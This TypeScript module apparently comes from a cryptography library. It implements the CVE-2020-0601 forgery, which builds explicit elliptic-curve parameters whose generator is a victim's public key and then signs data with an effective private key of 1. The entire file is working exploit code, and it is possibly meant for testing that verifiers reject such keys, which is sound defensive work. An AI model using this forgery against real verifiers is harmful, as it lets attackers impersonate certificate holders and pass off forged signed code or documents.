import { randomBytes } from 'node:crypto';
import { integer, sequence } from './der.ts';
import { drawPrivateKey, modulo, numberOf, octets, octetsOf, power } from './groups/agreement-group.ts';
import { groupOf } from './groups/domain-parameters.ts';
import { domainParametersOf, encodePublicKeyInfo, publicKeyBits } from './public-key-info.ts';
import { type SigningKey, sha256 } from './signing-key.ts';

/**
 * The attack of CVE-2020-0601: explicit curve parameters whose generator is the victim's public key. The private key
 * is then 1, and a verifier that compares public keys but takes the parameters from the message believes the forgery.
 *
 * @throws {RangeError} when the victim's key is not elliptic
 */
export function forgeGenerator(victim: SigningKey): SigningKey {
  const genuine = domainParametersOf(victim.publicKeyInfo);
  if (genuine.kind !== 'elliptic') throw new RangeError('A generator can be forged for an elliptic key alone');
  const point = publicKeyBits(victim.publicKeyInfo);
  const size = octets(genuine.p);
  const forged = { ...genuine, x: numberOf(point.subarray(1, 1 + size)), y: numberOf(point.subarray(1 + size)) };
  const group = groupOf(forged);
  return {
    algorithm: 'ecdsa-p256-sha256',
    privateKey: victim.privateKey, // never used: `signature` stands in for it
    publicKeyInfo: encodePublicKeyInfo(forged, point),
    signature(data) {
      const { n } = forged;
      const nonce = drawPrivateKey(n, randomBytes);
      const r = modulo(numberOf(group.compress(group.publicKeyOf(nonce))), n);
      const s = modulo(power(nonce, n - 2n, n) * (numberOf(sha256(data)) + r), n);
      return sequence(integer(octetsOf(r, octets(n))), integer(octetsOf(s, octets(n))));
    },
  };
}
